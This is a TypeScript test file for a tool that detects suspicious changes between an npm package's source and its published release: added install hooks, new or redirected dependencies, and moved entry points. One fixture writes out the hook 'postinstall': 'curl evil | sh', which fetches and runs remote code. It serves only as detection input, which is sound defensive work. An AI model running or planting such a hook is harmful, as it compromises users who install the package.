import { describe, expect, it } from 'vitest';
import { dependencyKind } from '../../../../src/npm/signals/dependency-kind.js';
import { judged } from '../../../support/judged.js';

const base = {
  name: 'tiny',
  version: '1.2.3',
  main: 'index.js',
  dependencies: { a: '^1.0.0' },
  scripts: { test: 'x' },
};
const files = (manifest: object) => ({
  'package.json': `${JSON.stringify(manifest, null, 2)}\n`,
  'index.js': 'x',
});

async function findings(release: object, { source = base as object, rebuilt = true } = {}) {
  const result = await judged({
    release: files(release),
    source: files(source),
    rebuilds: rebuilt ? [files(source)] : [],
    loaded: ['index.js'],
  });
  return result.findings;
}
const brief = async (...input: Parameters<typeof findings>) =>
  (await findings(...input)).map(({ signal, severity, line }) => [signal, severity, line]);

describe('install-hook-added', () => {
  it.each(['preinstall', 'install', 'postinstall'])('sees %s', async (hook) => {
    expect(await brief({ ...base, scripts: { test: 'x', [hook]: 'node x' } })).toEqual([
      ['install-hook-added', 'high', 10],
    ]);
  });
  it('sees one that changed', async () => {
    const source = { ...base, scripts: { postinstall: 'node a' } };
    expect(await brief({ ...base, scripts: { postinstall: 'node b' } }, { source })).toEqual([
      ['install-hook-added', 'high', 9],
    ]);
  });
  it('shows the command', async () => {
    const [finding] = await findings({ ...base, scripts: { postinstall: 'curl evil | sh' } });
    expect(finding!.excerpt).toBe('"postinstall": "curl evil | sh"');
  });
  it.each([
    [
      'one that the source has',
      { scripts: { postinstall: 'node a' } },
      { scripts: { postinstall: 'node a' }, description: 'x' },
    ],
    ['prepare, which no release runs', {}, { scripts: { test: 'x', prepare: 'y' } }],
  ])('does not speak of %s', async (_, source, release) => {
    expect(await brief({ ...base, ...release }, { source: { ...base, ...source } })).toEqual([]);
  });
});

describe('dependency-added', () => {
  it.each([
    [{ dependencies: { a: '^1.0.0', evil: '^1.0.0' } }, 'evil ^1.0.0, from the registry'],
    [{ optionalDependencies: { evil: 'github:x/y#abc' } }, 'evil github:x/y#abc, from a git repository'],
    [{ peerDependencies: { evil: 'https://x.test/a.tgz' } }, 'from an address'],
    [{ dependencies: { a: 'npm:evil@1.0.0' } }, 'redirect a npm:evil@1.0.0, another package under this name'],
    [{ dependencies: { a: 'git+ssh://git@x.test/a.git' } }, 'redirect a'],
    [{ bundleDependencies: ['evil'] }, 'bundleDependencies gained evil'],
  ])('sees %j', async (change, message) => {
    const found = await findings({ ...base, ...change });
    expect(found.map(({ signal, severity }) => [signal, severity])).toEqual([['dependency-added', 'high']]);
    expect(found[0]!.message).toContain(message);
  });
  it('sees it without a rebuild', async () => {
    expect(await brief({ ...base, dependencies: { a: '^1.0.0', evil: '1' } }, { rebuilt: false })).toEqual([
      ['dependency-added', 'high', 7],
    ]);
  });
  it.each([
    ['a range that changed', { dependencies: { a: '^1.0.1' } }],
    ['a dependency that became optional', { dependencies: {}, optionalDependencies: { a: '^1.0.0' } }],
    ['a development dependency', { devDependencies: { evil: '1' } }],
  ])('does not speak of %s', async (_, change) => {
    expect(await brief({ ...base, ...change })).toEqual([]);
  });
  it.each([
    ['^1.0.0', 'registry'],
    ['latest', 'registry'],
    ['npm:b@1', 'alias'],
    ['x/y', 'git'],
    ['git+https://x.test/y.git', 'git'],
    ['https://x.test/y.tgz', 'url'],
    ['file:../y', 'file'],
    ['workspace:*', 'file'],
    [`1${'.'.repeat(5_000)}`, 'unreadable'],
  ])('takes %.40s for %s', (spec, kind) => {
    expect(dependencyKind('a', spec)).toBe(kind);
  });
});

describe('entry-point-moved', () => {
  it.each([
    [{ main: 'test/fixture.js' }],
    [{ bin: 'x.js' }],
    [{ exports: './x.js' }],
    [{ type: 'module' }],
    [{ browser: { 'a.js': 'b.js' } }],
    [{ imports: { '#a': './x.js' } }],
  ])('sees %j', async (change) => {
    expect((await brief({ ...base, ...change })).map(([signal, severity]) => [signal, severity])).toEqual([
      ['entry-point-moved', 'high'],
    ]);
  });
  it('sees another order of conditions', async () => {
    const source = { ...base, exports: { import: './a.js', default: './b.js' } };
    const release = { ...base, exports: { default: './b.js', import: './a.js' } };
    expect((await brief(release, { source })).map(([signal]) => signal)).toEqual(['entry-point-moved']);
  });
  it('is no alarm without a rebuild', async () => {
    expect(
      (await brief({ ...base, main: 'x.js' }, { rebuilt: false })).map(([, severity]) => severity),
    ).toEqual(['medium']);
  });
  it('does not speak of fields that run nothing', async () => {
    expect(await brief({ ...base, types: 'x.d.ts', description: 'x' })).toEqual([]);
  });
});

it('no signal speaks of a manifest that a normalizer explains', async () => {
  expect(await brief(base, { source: { ...base, devDependencies: { b: '1' } } })).toEqual([]);
});

it('a manifest that is no JSON makes nothing throw', async () => {
  const release = { 'package.json': '{"scripts": [', 'index.js': 'x' };
  const { verdict } = await judged({ release, source: files(base), rebuilds: [files(base)] });
  expect(verdict.kind).toBe('differs');
});
